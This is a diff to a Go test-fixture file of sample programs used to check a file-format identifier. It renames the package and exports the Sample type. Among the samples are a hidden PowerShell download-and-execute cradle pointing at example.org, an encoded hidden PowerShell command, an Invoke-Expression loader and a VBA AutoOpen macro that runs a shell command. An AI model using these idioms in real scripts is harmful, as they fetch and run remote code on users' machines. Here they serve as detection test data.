@@ -1,15 +1,15 @@
-package identify
+package zoo
 
 import "strings"
 
 // of is a sample of which only the format is told here; its words are compared with those of file(1).
-func of(format, content string) sample {
-	return sample{name: format, content: []byte(content), want: Result{Format: format}}
+func of(format, content string) Sample {
+	return Sample{Name: format, Content: []byte(content), Want: Result{Format: format}}
 }
 
 // languageZoo holds short programs as people write them.
-func languageZoo() []sample {
-	return []sample{
+func languageZoo() []Sample {
+	return []Sample{
 		of("code/c", "#include <stdio.h>\n\nstatic int count;\n\nint main(int argc, char **argv)\n{\n\tprintf(\"%d\\n\", argc);\n\treturn 0;\n}\n"),
 		of("code/c", "/* no includes */\ntypedef unsigned int u32;\n\nstruct job {\n\tu32 id;\n\tchar *name;\n};\n\nstatic inline u32 id(struct job *j)\n{\n\treturn j->id;\n}\n"),
 		of("code/h", "/* job.h */\n#ifndef JOB_H\n#define JOB_H\n\n#include <stddef.h>\n\nextern int job_run(const char *name);\n\n#endif\n"),
@@ -25,8 +25,8 @@ func languageZoo() []sample {
 		of("code/vbs", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Dim s As String\r\n  s = Chr(99) & \"alc\"\r\n  Shell s\r\nEnd Sub\r\n"),
 		of("code/ps1", "param(\n  [string]$Url\n)\n$client = New-Object System.Net.WebClient\n$data = $client.DownloadString($Url)\nInvoke-Expression $data\n"),
 		of("code/ps1", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://example.org/a')\"\n"),
-		{"code/ps1 in UTF-16", utf16Of("function Get-Job2 {\r\n  Write-Host 'x'\r\n}\r\n$x = New-Object psobject\r\n"), Result{Format: "code/ps1"}},
-		{"code/ps1 in UTF-16 without a mark", utf16Of("$x = New-Object System.Net.WebClient\r\nInvoke-Expression $x\r\n")[2:], Result{"code/ps1", octetStream, "data", ""}},
+		{"code/ps1 in UTF-16", UTF16("function Get-Job2 {\r\n  Write-Host 'x'\r\n}\r\n$x = New-Object psobject\r\n"), Result{Format: "code/ps1"}},
+		{"code/ps1 in UTF-16 without a mark", UTF16("$x = New-Object System.Net.WebClient\r\nInvoke-Expression $x\r\n")[2:], Result{"code/ps1", octetStream, "data", ""}},
 		of("code/ps1", "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4A\r\n"),
 		of("code/batch", "setlocal\r\nif not exist \"%TEMP%\\a\" mkdir \"%TEMP%\\a\"\r\nfor %%f in (*.txt) do copy %%f \"%TEMP%\\a\"\r\nexit /b 0\r\n"),
 		of("code/python", "import os\nimport sys as s\n\ndef run(name):\n    print(os.stat(name))\n\nif __name__ == \"__main__\":\n    run(s.argv[1])\n"),
@@ -69,7 +69,7 @@ func languageZoo() []sample {
 }
 
 // legacyZoo holds formats without a signature worth the name, made from their specifications.
-func legacyZoo() []sample {
+func legacyZoo() []Sample {
 	com := "\xeb\x06hello$\xba\x02\x01\xb4\x09\xcd\x21\xb8\x00\x4c\xcd\x21"
 	arc := put8(put8(pad("\x1a\x08NAME.TXT\x00", 60), 15, 20), 25, 40)
 	dbf := put8(put8(put8(put8(put8(pad("\x03\x7c\x01\x1f", 98), 4, 1), 8, 65), 10, 11), 43, 'C'), 48, 10)
@@ -79,7 +79,7 @@ func legacyZoo() []sample {
 	evtx := put8(put8(put8(pad("ElfFile\x00", 4096), 36, 1), 38, 3), 42, 1)
 	opaque := peSpec{machine: 0x14c, subsystem: 2, flags: 0x102, sections: 3}.bytes()
 	opaque[0x80+24], opaque[0x80+25] = 0x07, 0x02
-	return []sample{
+	return []Sample{
 		of("executable/windows/com", com),
 		{"driver for DOS", pad("\xff\xff\xff\xff\x00\x80\x20\x00\x30\x00CON     ", 120), Result{
 			"executable/windows/dos", "application/x-dosdriver", "DOS executable (character device driver CON)", ""}},
